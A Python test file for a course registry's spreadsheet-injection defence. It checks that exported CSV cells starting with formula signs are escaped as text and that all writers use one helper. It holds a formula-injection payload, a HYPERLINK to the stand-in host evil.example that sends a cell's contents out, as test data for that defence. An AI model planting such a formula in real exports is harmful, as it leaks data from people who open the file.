"""No file the registry writes lets a cell run as a formula: one helper, used by every writer."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from registry.catalogue.enums import CourseStatus
from registry.extensions import db
from registry.spreadsheet import neutralise
from tests.factories import make_course, make_provider

ROOT = Path(__file__).resolve().parent.parent
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_text_with_a_formula_sign_is_shown_as_text_and_numbers_stay_numbers():
    cells = [ATTACK, "+31 6", "-1", "@SUM(A1)", "\t=1", "\r=1", "Kinder-EHBO", -5, 19.5, None]
    assert [neutralise(cell) for cell in cells] == [
        "'" + ATTACK,
        "'+31 6",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "Kinder-EHBO",
        -5,
        19.5,
        None,
    ]


def test_a_formula_a_provider_typed_reaches_the_public_dump_as_text(app, client):
    provider = make_provider(slug="formule", name="+Formule Academie")
    make_course(provider=provider, status=CourseStatus.PUBLISHED, title=ATTACK)
    db.session.commit()
    response = client.get("/api/v1/dump/courses.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + ATTACK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_every_csv_and_xlsx_writer_goes_through_the_helper():
    """A new export that writes rows itself would bring the injection back."""
    offenders = []
    for path in (ROOT / "registry").rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        for needle in ("csv.writer(", "csv.DictWriter(", ".append(_row(", "sheet.append(["):
            if needle in text:
                offenders.append(f"{path.relative_to(ROOT)}: {needle}")
    assert offenders == []
